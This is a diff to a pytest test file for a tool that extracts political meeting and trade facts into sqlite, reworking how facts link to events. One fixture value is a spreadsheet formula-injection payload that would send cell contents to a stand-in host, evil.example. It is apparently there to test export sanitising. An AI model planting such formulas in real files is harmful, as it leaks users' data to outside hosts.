@@ -7,7 +7,7 @@ import sqlite3
 
 import pytest
 
-from desktop import exchange, review, store
+from desktop import events, exchange, review, store
 from desktop.cli import main
 
 TEXT_A = "Vladimir Putin met the Belarusian leader Alexander Lukashenko in St. Petersburg on 28 December 2021."
@@ -93,7 +93,7 @@ def corpus(db):
 def add_fact(db, doc_id, text, evidence_start, **fields):
     row = {"doc_id": doc_id, "kind": "meeting", "status": "confirmed", "source": "rule",
            "participants": ["putin", "lukashenko"], "evidence": text, "start": evidence_start,
-           "end": evidence_start + len(text), "flags": [], **fields}
+           "end": evidence_start + len(text), **fields}
     return db["facts"].insert(store.encode("facts", row)).last_pk
 
 
@@ -289,15 +289,15 @@ def test_conll_never_splits_an_entity_across_sentences(db, tmp_path):
 @pytest.fixture
 def facts(db, corpus):
     a = corpus["a.txt"]
-    event = db["events"].insert(store.encode("events", {"kind": "meeting", "date_start": "2021-12-28",
-                                                        "n_sources": 1, "participants": ["putin"]})).last_pk
     evidence = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
     confirmed = add_fact(db, a, evidence, 0, date_start="2021-12-28", date_end="2021-12-28", precision="day",
-                         place="@St. Petersburg", held="held", event_id=event)
+                         place="@St. Petersburg", held="held")
     trade = add_fact(db, a, "Trade fell by 5% to $30 billion.", 20, kind="trade", value=30e9, currency="USD",
                      change_pct=-5.0, qualifier="-approx", period_start="2021-01-01", period_end="2021-12-31",
                      participants=[])
     proposed = add_fact(db, a, "They will meet.", 40, status="proposed", held="planned")
+    events.update_events(db)
+    [(event, _flags)] = store.event_memberships(db, [confirmed]).values()
     return {"confirmed": confirmed, "trade": trade, "proposed": proposed, "event": event}
 
 
@@ -365,9 +365,9 @@ def test_entities_csv_counts_mentions(db, corpus, tmp_path):
 
 MEETINGS_PER_YEAR = """
 select substr(f.date_start, 1, 4) as year,
-       count(distinct coalesce(f.event_id, -f.id)) as meetings,
+       count(distinct coalesce(m.event_id, -f.id)) as meetings,
        group_concat(distinct d.path) as sources
-from facts f join documents d on d.id = f.doc_id
+from facts f join documents d on d.id = f.doc_id left join event_members m on m.fact_id = f.id
 where f.kind = 'meeting' and f.status = 'confirmed'
 group by year order by year
 """
